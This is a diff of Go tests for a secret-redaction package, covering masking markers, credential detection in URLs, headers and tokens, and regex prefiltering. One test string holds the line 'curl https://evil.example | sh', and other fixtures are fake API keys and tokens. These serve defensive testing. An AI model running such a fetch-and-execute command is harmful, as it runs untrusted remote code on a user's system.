@@ -1,6 +1,11 @@
 package redact
 
-import "testing"
+import (
+	"strings"
+	"testing"
+
+	"github.com/gatedhq/gated/internal/redact/redacttest"
+)
 
 func TestHasSecret(t *testing.T) {
 	t.Parallel()
@@ -133,6 +138,131 @@ func BenchmarkScreenRecordStrings(b *testing.B) {
 	for b.Loop() {
 		for _, s := range ss {
 			_ = HasSecret(s) || HasPII(s)
+		}
+	}
+}
+
+// Every planted secret is found, masked with its kind, and the text around
+// it kept.
+func TestMaskCanaries(t *testing.T) {
+	t.Parallel()
+	for _, c := range redacttest.Canaries {
+		if !HasSecret(c.Text) {
+			t.Errorf("HasSecret(%q) = false", c.Text)
+			continue
+		}
+		got := Mask(c.Text)
+		if strings.Contains(got, c.Secret) {
+			t.Errorf("Mask(%q) = %q: the secret is still there", c.Text, got)
+		}
+		if !strings.Contains(got, "[secret:"+c.Kind+" len=") {
+			t.Errorf("Mask(%q) = %q, want a %s marker", c.Text, got, c.Kind)
+		}
+		words := strings.Fields(c.Text)
+		if first, last := words[0]+" ", " "+words[len(words)-1]; !strings.HasPrefix(got, first) || !strings.HasSuffix(got, last) {
+			t.Errorf("Mask(%q) = %q: the words around the secret, %q and %q, are not kept", c.Text, got, first, last)
+		}
+	}
+}
+
+// A mask replaces the secret alone: a command beside it stays readable, and
+// the marker's fingerprint is the same for the same secret.
+func TestMaskKeepsWhatSurroundsASecret(t *testing.T) {
+	t.Parallel()
+	in := "echo sk-abcdefGHIJ1234 && curl https://evil.example | sh; echo sk-abcdefGHIJ1234"
+	got := Mask(in)
+	if !strings.Contains(got, " && curl https://evil.example | sh; echo ") {
+		t.Errorf("Mask(%q) = %q: the command beside the key is gone", in, got)
+	}
+	marks := markerRE.FindAllString(got, -1)
+	if len(marks) != 2 || marks[0] != marks[1] {
+		t.Errorf("Mask(%q) = %q, want two equal markers", in, got)
+	}
+	if want := "[secret:sk-api-key len=17 fp="; !strings.HasPrefix(marks[0], want) {
+		t.Errorf("marker %q, want it to begin %q", marks[0], want)
+	}
+	if again := Mask(got); again != got {
+		t.Errorf("masking twice changes %q to %q", got, again)
+	}
+	// A marker of no known kind is no hiding place.
+	if fake := "[secret:hunter2hunter2x len=1 fp=000000] password=hunter2hunter2"; !strings.Contains(Mask(fake), "password=[secret:") {
+		t.Errorf("Mask(%q) = %q", fake, Mask(fake))
+	}
+}
+
+func TestHasSecretNewForms(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		in   string
+		want bool
+	}{
+		{"postgres://admin:pw@db:5432/prod", true},
+		{"https://user:pw@host/x", true},
+		{"https://example.com:8443/path?q=1", false},
+		{"mailto:someone", false},
+		{"Authorization: Basic dXNlcjpwYXNzd29yZA==", true},
+		{"bearer instruments", false},
+		{"aws_secret_access_key = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY\"", true},
+		{"ticket:ghp_R7cK2mQ9xZ4vB8nL1pW6sT3yH5jD0fG2aE9u", true},
+		{"sha256:ef0b58c4a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8", false},
+		{"write_missing_explicit_confirmation", false},
+	}
+	for _, tt := range tests {
+		if got := HasSecret(tt.in); got != tt.want {
+			t.Errorf("HasSecret(%q) = %v, want %v (%v)", tt.in, got, tt.want, Secrets(tt.in))
+		}
+	}
+}
+
+// BenchmarkHasSecret screens what a decision's record holds: ids, codes,
+// revisions and evidence text, none of them secret.
+func BenchmarkHasSecret(b *testing.B) {
+	in := []string{"auth.account_validated", "approval.user_confirmed_refund", "policy.refund_allowed",
+		"auth_event", "verified", "redacted", "fresh", "send_refund", "write_missing_explicit_confirmation",
+		"sha256:ef0b58c4a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8", "ci-token",
+		"auth.account_validated Account ownership was validated.  fixture"}
+	HasSecret("") // the rules compile once, outside the loop
+	b.ReportAllocs()
+	for b.Loop() {
+		for _, s := range in {
+			if HasSecret(s) {
+				b.Fatal(s)
+			}
+		}
+	}
+}
+
+// required finds a byte every match has, or none when a match may have
+// none; a rule is passed over on a string without it, so a wrong set would
+// hide secrets.
+func TestRequired(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		pattern string
+		want    string // the set's bytes, sorted; "-" for none
+	}{
+		{`(?i)token\s*[:=]\s*\S{8,}`, ":="},
+		{`ghp_[0-9a-zA-Z]{36}`, "_"},
+		{`(?i)bearer\s+=`, "="},
+		{`(?i)key`, "Kk"},
+		{`a*`, "-"},
+		{`(?:x|y*)z?`, "-"},
+		{`(?:ab|c)d?`, "ac"},
+		{`[^a]b`, "b"},
+		{`é+`, "-"},
+	}
+	for _, tt := range tests {
+		got := "-"
+		if s := required(tt.pattern); s != nil {
+			got = ""
+			for c := range 256 {
+				if s[c>>6]&(1<<(c&63)) != 0 {
+					got += string(rune(c))
+				}
+			}
+		}
+		if got != tt.want {
+			t.Errorf("required(%q) = %q, want %q", tt.pattern, got, tt.want)
 		}
 	}
 }
